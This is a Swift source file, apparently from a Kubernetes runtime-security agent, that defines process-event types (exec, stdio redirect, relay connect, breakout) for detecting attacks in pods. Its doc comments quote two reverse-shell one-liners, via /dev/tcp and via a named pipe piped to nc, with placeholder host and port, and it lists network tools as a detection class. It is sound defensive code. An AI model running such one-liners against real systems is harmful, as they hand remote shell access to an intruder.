/// A program started in a pod: what the exec tracepoint saw.
public struct ExecRecord: Hashable, Sendable {
    public var process: ProcessIdentity
    /// Kernel monotonic nanoseconds of the exec.
    public var timestampNs: UInt64
    public var uid: UInt32
    public var euid: UInt32
    /// The new program's name (basename of the binary, 15 bytes at most).
    public var comm: String
    /// The path given to execve.
    public var filename: String
    /// The interpreter, for a script; else the filename again.
    public var interpreter: String
    /// The first arguments, argv[0] included; `argumentsTruncated` when cut.
    public var arguments: [String]
    public var argumentsTruncated: Bool
    /// fds 0, 1 and 2.
    public var stdio: [StdioDescriptor]
    /// The kernel killed it at exec (policy in force then).
    public var killedAtExec: Bool
    /// What the kernel's name table called it.
    public var execClass: ExecClass
    /// The kernel found it a relayed shell: the connection of its relay (its
    /// parent, or a process on the other side of a pipe of its stdio).
    public var relayedBy: ProcessConnection?
    /// A program a pod wrote, or one with no file name (memfd).
    public var dropped: DroppedProgram?

    public init(
        process: ProcessIdentity, timestampNs: UInt64, uid: UInt32 = 0, euid: UInt32 = 0, comm: String, filename: String,
        interpreter: String? = nil, arguments: [String], argumentsTruncated: Bool = false, stdio: [StdioDescriptor],
        killedAtExec: Bool = false, execClass: ExecClass = [], relayedBy: ProcessConnection? = nil, dropped: DroppedProgram? = nil
    ) {
        self.process = process
        self.timestampNs = timestampNs
        self.uid = uid
        self.euid = euid
        self.comm = comm
        self.filename = filename
        self.interpreter = interpreter ?? filename
        self.arguments = arguments
        self.argumentsTruncated = argumentsTruncated
        self.stdio = stdio
        self.killedAtExec = killedAtExec
        self.execClass = execClass
        self.relayedBy = relayedBy
        self.dropped = dropped
    }

    public var execID: ExecID { ExecID(pid: process.pid, execNs: timestampNs) }

    /// The inet sockets on fds 0-2.
    public var stdioSockets: [StdioDescriptor.InetSocket] { stdio.compactMap(\.inetSocket) }
}

/// What podwall's exec policy calls a program name (configured names).
public struct ExecClass: OptionSet, Hashable, Sendable {
    public let rawValue: UInt32
    public init(rawValue: UInt32) { self.rawValue = rawValue }

    /// A shell or an interpreter that can run commands it reads.
    public static let shell = ExecClass(rawValue: 1 << 0)
    /// curl, wget, nc, socat, nmap and the like.
    public static let networkTool = ExecClass(rawValue: 1 << 1)
    /// Never allowed in a pod.
    public static let denied = ExecClass(rawValue: 1 << 2)
    /// A container runtime's init (its setup is no breakout).
    public static let runtime = ExecClass(rawValue: 1 << 3)
}

/// A running shell made an inet socket its fd 0, 1 or 2 with dup2/dup3
/// (`exec 5<>/dev/tcp/H/P; exec 0<&5 1>&5`): a reverse shell with no exec.
public struct StdioRedirect: Hashable, Sendable {
    public var process: ProcessIdentity
    public var timestampNs: UInt64
    public var uid: UInt32
    public var comm: String
    public var fd: UInt32
    public var socket: StdioDescriptor.InetSocket
    /// The kernel killed it as the syscall returned.
    public var killed: Bool

    public init(
        process: ProcessIdentity, timestampNs: UInt64, uid: UInt32 = 0, comm: String, fd: UInt32, socket: StdioDescriptor.InetSocket,
        killed: Bool
    ) {
        self.process = process
        self.timestampNs = timestampNs
        self.uid = uid
        self.comm = comm
        self.fd = fd
        self.socket = socket
        self.killed = killed
    }
}

/// A process on the other side of a pipe of a stdin-reading shell's stdio
/// connected out (`cat /tmp/f | sh -i | nc H P > /tmp/f`): the kernel took it
/// for the shell's relay at connect()'s entry.
public struct RelayConnect: Hashable, Sendable {
    /// The relay and where it connected.
    public var process: ProcessIdentity
    public var connection: ProcessConnection
    /// The shell it relays (host tgid).
    public var shellPid: UInt32
    /// The kernel killed the relay before its connection existed.
    public var killed: Bool

    public init(process: ProcessIdentity, connection: ProcessConnection, shellPid: UInt32, killed: Bool) {
        self.process = process
        self.connection = connection
        self.shellPid = shellPid
        self.killed = killed
    }
}

/// The kernel's process events, in one vocabulary for the agent and tests.
public enum ProcessEvent: Hashable, Sendable {
    case exec(ExecRecord)
    /// A new process (not a thread), with the child's comm.
    case fork(ProcessIdentity, timestampNs: UInt64, comm: String)
    /// A process's last thread ended; `exitCode` as wait(2) reports it.
    case exit(ProcessIdentity, timestampNs: UInt64, exitCode: UInt32, comm: String)
    case stdioRedirect(StdioRedirect)
    case relayConnect(RelayConnect)
    case file(FileEvent)
    case breakout(BreakoutAttempt)

    public var process: ProcessIdentity {
        switch self {
        case .exec(let record): record.process
        case .fork(let process, _, _), .exit(let process, _, _, _): process
        case .stdioRedirect(let redirect): redirect.process
        case .relayConnect(let relay): relay.process
        case .file(let file): file.process
        case .breakout(let attempt): attempt.process
        }
    }

    public var timestampNs: UInt64 {
        switch self {
        case .exec(let record): record.timestampNs
        case .fork(_, let time, _), .exit(_, let time, _, _): time
        case .stdioRedirect(let redirect): redirect.timestampNs
        case .relayConnect(let relay): relay.connection.timestampNs
        case .file(let file): file.timestampNs
        case .breakout(let attempt): attempt.timestampNs
        }
    }
}
